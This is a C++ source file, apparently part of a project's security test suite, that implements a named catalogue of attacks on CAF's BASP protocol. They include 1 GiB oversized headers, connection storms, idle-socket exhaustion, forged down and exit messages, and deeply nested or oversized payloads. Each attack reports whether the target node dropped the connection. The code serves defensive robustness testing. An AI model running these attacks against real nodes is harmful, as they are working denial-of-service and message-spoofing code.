#include "tests/security/attacks.hpp"

#include <sstream>
#include <thread>

namespace conflux::security {

namespace {

constexpr ms connect_limit{3000};

constexpr std::size_t default_message_depth = 35000;
constexpr std::size_t default_config_value_depth = 100000;
constexpr std::uint32_t one_gib = 1u << 30;

// The id a forged sender claims on the attacker's node.
constexpr std::uint64_t attacker_actor = 1;

attack_report not_run(std::string why) {
  attack_report r;
  r.error = std::move(why);
  return r;
}

// Not run because dialling failed as `f` says.
attack_report not_run(const std::string& what, const dial_failure& f) {
  auto r = not_run(what + (f.reason.empty() ? "" : ": " + f.reason));
  r.tls_refused = f.tls_refused;
  return r;
}

const tls_client* tls_of(const attack_options& o) {
  return o.tls ? &*o.tls : nullptr;
}

std::string where(const attack_target& t) {
  return t.host + ":" + std::to_string(t.port);
}

// Sends `b` and waits up to `wait` for the node to close the connection. A
// send that fails because the node already closed it counts as closed.
attack_report send_and_watch(raw_connection& conn, const bytes& b, ms wait) {
  attack_report r;
  r.ran = true;
  auto start = clock::now();
  if (!conn.send(b)) {
    r.closed = true;
    r.closed_after_ms = std::chrono::duration_cast<ms>(clock::now() - start).count();
    return r;
  }
  if (auto t = conn.wait_closed(wait)) {
    r.closed = true;
    r.closed_after_ms = t->count();
  }
  return r;
}

// A direct message from the attacker's actor to actor `dest`.
bytes direct_to(std::uint64_t dest, const bytes& content,
                std::uint64_t message_id = async_message_id) {
  basp_header h;
  h.op = basp_op::direct_message;
  h.operation_data = message_id;
  h.source_actor = attacker_actor;
  h.dest_actor = dest;
  return frame(h, content);
}

// Connects as a peer node to the target and sends its published actor the
// content `make(forge)` as a direct message, then watches the connection.
template <class Make>
attack_report message_to_endpoint(const attack_options& o, Make make) {
  basp_forge forge;
  dial_failure failed;
  auto peer = connect_as_peer(forge, o.target.host, o.target.port, connect_limit,
                              tls_of(o), &failed);
  if (!peer)
    return not_run("no BASP handshake with " + where(o.target), failed);
  return send_and_watch(*peer->conn,
                        direct_to(peer->hello.published_actor, make(forge)), o.wait);
}

// The node a forged message names as its third party: the hello of
// `o.target` when a `via` node is attacked, else a node that does not exist.
struct third_party {
  bytes node;
  std::uint64_t actor = 0;
};

std::optional<third_party>
third_party_of(const attack_options& o, const basp_forge& forge, dial_failure* failed) {
  if (!o.via)
    return third_party{forge.stranger_node(), attacker_actor};
  auto g = connect_and_read_hello(forge, o.target.host, o.target.port, connect_limit,
                                  tls_of(o), failed);
  if (!g)
    return std::nullopt;
  return third_party{g->hello.node, g->hello.published_actor};
}

// -- the attacks ---------------------------------------------------------------

// Not an attack: asks the endpoint for CAF's info, as a peer, and reports
// whether it answered (a control for the others).
attack_report probe_endpoint(const attack_options& o) {
  basp_forge forge;
  dial_failure failed;
  auto peer = connect_as_peer(forge, o.target.host, o.target.port, connect_limit,
                              tls_of(o), &failed);
  if (!peer)
    return not_run("no BASP handshake with " + where(o.target), failed);
  constexpr std::uint64_t request = 1;
  attack_report r;
  if (!peer->conn->send(direct_to(peer->hello.published_actor, forge.info_request(),
                                  request_message_id(request))))
    return not_run("the connection to " + where(o.target) + " failed");
  r.ran = true;
  auto deadline = clock::now() + o.wait;
  while (clock::now() < deadline) {
    auto f = peer->conn->read_frame(deadline);
    if (!f)
      break;
    if (f->first.op == basp_op::direct_message &&
        is_response_to(f->first.operation_data, request) &&
        f->first.source_actor != 0) {
      r.answered = true;
      break;
    }
  }
  return r;
}

attack_report oversized_header(const attack_options& o) {
  basp_forge forge;
  dial_failure failed;
  auto g = connect_and_read_hello(forge, o.target.host, o.target.port, connect_limit,
                                  tls_of(o), &failed);
  if (!g)
    return not_run("no BASP node at " + where(o.target), failed);
  basp_header h;
  h.op = basp_op::client_handshake;
  h.payload_len = one_gib; // and no payload follows
  return send_and_watch(*g->conn, encode(h), o.wait);
}

// Sends the oversized header at once, without waiting for the node's
// greeting: BASP bytes where a TLS node expects a TLS handshake.
attack_report header_first(const attack_options& o) {
  dial_failure failed;
  auto conn = raw_connection::open(o.target.host, o.target.port, connect_limit,
                                   tls_of(o), &failed);
  if (!conn)
    return not_run("cannot connect to " + where(o.target), failed);
  basp_header h;
  h.op = basp_op::client_handshake;
  h.payload_len = one_gib;
  return send_and_watch(*conn, encode(h), o.wait);
}

// Opens and drops connections `o.count` times in three ways in turn: a bare
// TCP connect and close, a TLS handshake with the credentials given (or none)
// closed as soon as it ends, and 32 bytes of BASP header then close. Counts
// as delivered when every round connected.
attack_report connect_storm(const attack_options& o) {
  constexpr ms short_limit{1000};
  basp_header h;
  h.op = basp_op::client_handshake;
  h.payload_len = one_gib;
  auto header = encode(h);
  tls_client anonymous;
  const tls_client* tls = o.tls ? &*o.tls : &anonymous;
  std::uint64_t refused = 0;
  for (std::uint64_t round = 0; round < o.count; ++round) {
    switch (round % 3) {
    case 0:
      if (!raw_connection::open(o.target.host, o.target.port, short_limit))
        return not_run("round " + std::to_string(round) + ": cannot connect to " +
                       where(o.target));
      break;
    case 1: {
      dial_failure failed;
      if (!raw_connection::open(o.target.host, o.target.port, short_limit, tls,
                                &failed)) {
        if (!failed.tls_refused)
          return not_run("round " + std::to_string(round), failed);
        ++refused;
      }
      break;
    }
    default: {
      auto conn = raw_connection::open(o.target.host, o.target.port, short_limit);
      if (!conn)
        return not_run("round " + std::to_string(round) + ": cannot connect to " +
                       where(o.target));
      conn->send(header);
      break;
    }
    }
  }
  attack_report r;
  r.ran = true;
  r.tls_refused = refused > 0;
  return r;
}

// Opens `o.count` TCP connections and sends nothing on them, not even a TLS
// hello; waits up to `o.wait` for the node to close them all. granted: how
// many connected, refused: how many the node closed; closed_after_ms: when
// it closed the last one.
attack_report idle_sockets(const attack_options& o) {
  std::vector<std::unique_ptr<raw_connection>> conns;
  for (std::uint64_t i = 0; i < o.count; ++i) {
    auto conn = raw_connection::open(o.target.host, o.target.port, connect_limit);
    if (!conn)
      return not_run("connection " + std::to_string(i) + ": cannot connect to " +
                     where(o.target));
    conns.push_back(std::move(conn));
  }
  attack_report r;
  r.ran = true;
  r.granted = static_cast<long>(conns.size());
  r.refused = 0;
  const auto start = clock::now();
  const auto deadline = start + o.wait;
  // Waits on each in turn, within what is left of the one deadline.
  for (auto& conn : conns) {
    auto left = std::chrono::duration_cast<ms>(deadline - clock::now());
    if (left.count() < 0 || !conn->wait_closed(left))
      continue;
    ++r.refused;
    r.closed_after_ms = std::chrono::duration_cast<ms>(clock::now() - start).count();
  }
  r.closed = r.refused == r.granted;
  return r;
}

attack_report handshake_without_payload(const attack_options& o) {
  basp_forge forge;
  dial_failure failed;
  auto g = connect_and_read_hello(forge, o.target.host, o.target.port, connect_limit,
                                  tls_of(o), &failed);
  if (!g)
    return not_run("no BASP node at " + where(o.target), failed);
  basp_header h;
  h.op = basp_op::client_handshake; // payload_len 0
  return send_and_watch(*g->conn, encode(h), o.wait);
}

attack_report message_before_handshake(const attack_options& o) {
  basp_forge forge;
  dial_failure failed;
  auto g = connect_and_read_hello(forge, o.target.host, o.target.port, connect_limit,
                                  tls_of(o), &failed);
  if (!g)
    return not_run("no BASP node at " + where(o.target), failed);
  return send_and_watch(
      *g->conn, direct_to(g->hello.published_actor, forge.info_request()), o.wait);
}

attack_report routed_message(const attack_options& o) {
  basp_forge forge;
  dial_failure third_failed;
  auto third = third_party_of(o, forge, &third_failed);
  if (!third)
    return not_run("no BASP node at " + where(o.target), third_failed);
  auto via = o.via.value_or(o.target);
  dial_failure failed;
  auto peer =
      connect_as_peer(forge, via.host, via.port, connect_limit, tls_of(o), &failed);
  if (!peer)
    return not_run("no BASP handshake with " + where(via), failed);
  // An info request to the third node's endpoint, asking for a reply to the
  // attacker: relayed both ways, the reply comes back on this connection.
  constexpr std::uint64_t request = 1;
  basp_header h;
  h.op = basp_op::routed_message;
  h.operation_data = request_message_id(request);
  h.source_actor = attacker_actor;
  h.dest_actor = third->actor;
  auto payload =
      basp_forge::node_pair(forge.own_node(), third->node) + forge.info_request();
  attack_report r;
  if (!peer->conn->send(frame(h, payload)))
    return not_run("the connection to " + where(via) + " failed");
  r.ran = true;
  auto start = clock::now();
  auto deadline = start + o.wait;
  // Bounded by the deadline: each frame read either returns one frame or
  // fails at the deadline or on a closed connection.
  while (clock::now() < deadline) {
    auto f = peer->conn->read_frame(deadline);
    if (!f) {
      if (clock::now() < deadline) {
        r.closed = true;
        r.closed_after_ms =
            std::chrono::duration_cast<ms>(clock::now() - start).count();
      }
      break;
    }
    auto op = f->first.op;
    if ((op == basp_op::direct_message || op == basp_op::routed_message) &&
        is_response_to(f->first.operation_data, request) &&
        f->first.source_actor != 0) {
      r.answered = true;
      break;
    }
  }
  return r;
}

attack_report down_operation(const attack_options& o) {
  basp_forge forge;
  dial_failure third_failed;
  auto third = third_party_of(o, forge, &third_failed);
  if (!third)
    return not_run("no BASP node at " + where(o.target), third_failed);
  auto victim = o.via.value_or(o.target);
  dial_failure failed;
  auto peer = connect_as_peer(forge, victim.host, victim.port, connect_limit, tls_of(o),
                              &failed);
  if (!peer)
    return not_run("no BASP handshake with " + where(victim), failed);
  // "Actor `third->actor` of the third node is down", said by the attacker.
  basp_header h;
  h.op = basp_op::down_message;
  h.source_actor = third->actor;
  return send_and_watch(*peer->conn,
                        frame(h, forge.down_operation(third->node, peer->hello.node)),
                        o.wait);
}

attack_report remote_exit(const attack_options& o) {
  return message_to_endpoint(o, [](const basp_forge& f) { return f.exit_message(); });
}

attack_report remote_error(const attack_options& o) {
  return message_to_endpoint(o, [](const basp_forge& f) { return f.error_message(); });
}

attack_report remote_link(const attack_options& o) {
  basp_forge forge;
  dial_failure failed;
  auto peer = connect_as_peer(forge, o.target.host, o.target.port, connect_limit,
                              tls_of(o), &failed);
  if (!peer)
    return not_run("no BASP handshake with " + where(o.target), failed);
  auto r = send_and_watch(*peer->conn,
                          direct_to(peer->hello.published_actor, forge.link_request()),
                          o.wait);
  // Leaving is the second half: the node ends the proxies of a node whose
  // connection closed, and an actor linked to one of them with it.
  peer->conn.reset();
  return r;
}

attack_report forged_down_msg(const attack_options& o) {
  basp_forge forge;
  dial_failure third_failed;
  auto third = third_party_of(o, forge, &third_failed);
  if (!third)
    return not_run("no BASP node at " + where(o.target), third_failed);
  auto victim = o.via.value_or(o.target);
  dial_failure failed;
  auto peer = connect_as_peer(forge, victim.host, victim.port, connect_limit, tls_of(o),
                              &failed);
  if (!peer)
    return not_run("no BASP handshake with " + where(victim), failed);
  // Actor ids are small and sequential: tell every actor of the victim that
  // the third node's endpoint went down (only registered actors receive it).
  auto content = forge.down_msg(third->node, third->actor);
  bytes all;
  auto last = o.via ? o.max_actor_id : peer->hello.published_actor;
  auto first = o.via ? 1 : peer->hello.published_actor;
  for (auto aid = first; aid <= last; ++aid)
    all += direct_to(aid, content);
  return send_and_watch(*peer->conn, all, o.wait);
}

attack_report nested_message(const attack_options& o) {
  auto depth = o.depth > 0 ? o.depth : default_message_depth;
  return message_to_endpoint(
      o, [depth](const basp_forge&) { return basp_forge::nested_message(depth); });
}

attack_report nested_config_value(const attack_options& o) {
  auto depth = o.depth > 0 ? o.depth : default_config_value_depth;
  return message_to_endpoint(
      o, [depth](const basp_forge&) { return basp_forge::nested_config_value(depth); });
}

attack_report unknown_variant_tag(const attack_options& o) {
  return message_to_endpoint(
      o, [](const basp_forge&) { return basp_forge::config_value_with_tag(200); });
}

attack_report huge_byte_buffer(const attack_options& o) {
  return message_to_endpoint(
      o, [](const basp_forge&) { return basp_forge::byte_buffer(one_gib); });
}

} // namespace

std::string attack_report::to_line() const {
  std::ostringstream os;
  os << "ran=" << ran << " closed=" << closed << " closed_after_ms=" << closed_after_ms
     << " answered=" << answered << " tls_refused=" << tls_refused
     << " reply_code=" << reply_code << " granted=" << granted << " refused=" << refused
     << " error=" << error;
  return os.str();
}

std::optional<attack_report> attack_report::parse(const std::string& line) {
  attack_report r;
  int ran = 0;
  int closed = 0;
  int answered = 0;
  int tls_refused = 0;
  std::istringstream is{line};
  std::string word;
  bool seen_ran = false;
  while (is >> word) {
    auto eq = word.find('=');
    if (eq == std::string::npos)
      return std::nullopt;
    auto key = word.substr(0, eq);
    auto value = word.substr(eq + 1);
    if (key == "error") {
      std::string rest;
      std::getline(is, rest);
      r.error = value + rest;
      break;
    }
    try {
      if (key == "ran") {
        ran = std::stoi(value);
        seen_ran = true;
      } else if (key == "closed") {
        closed = std::stoi(value);
      } else if (key == "closed_after_ms") {
        r.closed_after_ms = std::stol(value);
      } else if (key == "answered") {
        answered = std::stoi(value);
      } else if (key == "reply_code") {
        r.reply_code = std::stol(value);
      } else if (key == "granted") {
        r.granted = std::stol(value);
      } else if (key == "refused") {
        r.refused = std::stol(value);
      } else if (key == "tls_refused") {
        tls_refused = std::stoi(value);
      }
    } catch (const std::exception&) {
      return std::nullopt;
    }
  }
  if (!seen_ran)
    return std::nullopt;
  r.ran = ran != 0;
  r.closed = closed != 0;
  r.answered = answered != 0;
  r.tls_refused = tls_refused != 0;
  return r;
}

const std::vector<attack_entry>& all_attacks() {
  static const std::vector<attack_entry> attacks{
      {"probe-endpoint", probe_endpoint,
       "not an attack: after a handshake, asks the endpoint for CAF's info and "
       "reports whether it answered"},
      {"oversized-header", oversized_header,
       "a client handshake header announcing a 1 GiB payload, and no payload"},
      {"header-first", header_first,
       "a client handshake header announcing 1 GiB sent at once, without waiting "
       "for the node's greeting (plain BASP to a TLS port, without --tls-dir)"},
      {"connect-storm", connect_storm,
       "--count (100) connections opened and dropped: bare TCP, a TLS handshake "
       "(--tls-dir's certificate, or none) closed at once, 32 bytes of BASP"},
      {"idle-sockets", idle_sockets,
       "--count (100) TCP connections that send nothing, not even a TLS hello; "
       "waits --wait-ms for the node to close them all"},
      {"handshake-without-payload", handshake_without_payload,
       "a client handshake header announcing no payload"},
      {"message-before-handshake", message_before_handshake,
       "a direct message to the endpoint instead of a client handshake"},
      {"routed-message", routed_message,
       "after a handshake with --via, a request routed through it to --target's "
       "endpoint (without --via: to a node that does not exist)"},
      {"down-operation", down_operation,
       "after a handshake with --via, a BASP down operation saying that "
       "--target's endpoint is down"},
      {"remote-exit", remote_exit,
       "after a handshake, an exit message (reason kill) to the endpoint"},
      {"remote-error", remote_error,
       "after a handshake, an error message that answers no request to the "
       "endpoint"},
      {"remote-link", remote_link,
       "after a handshake, a link request to the endpoint, then a disconnect"},
      {"forged-down-msg", forged_down_msg,
       "after a handshake with --via, a down_msg naming --target's endpoint to "
       "every actor id up to --max-actor-id"},
      {"nested-message", nested_message,
       "after a handshake, a message nested --depth (35000) levels deep"},
      {"nested-config-value", nested_config_value,
       "after a handshake, a config_value list nested --depth (100000) levels "
       "deep"},
      {"unknown-variant-tag", unknown_variant_tag,
       "after a handshake, a config_value whose variant type tag is 200"},
      {"huge-byte-buffer", huge_byte_buffer,
       "after a handshake, a byte buffer announcing 1 GiB that holds 16 bytes"},
  };
  return attacks;
}

const attack_entry* find_attack(const std::string& name) {
  for (auto& a : all_attacks())
    if (name == a.name)
      return &a;
  return nullptr;
}

} // namespace conflux::security
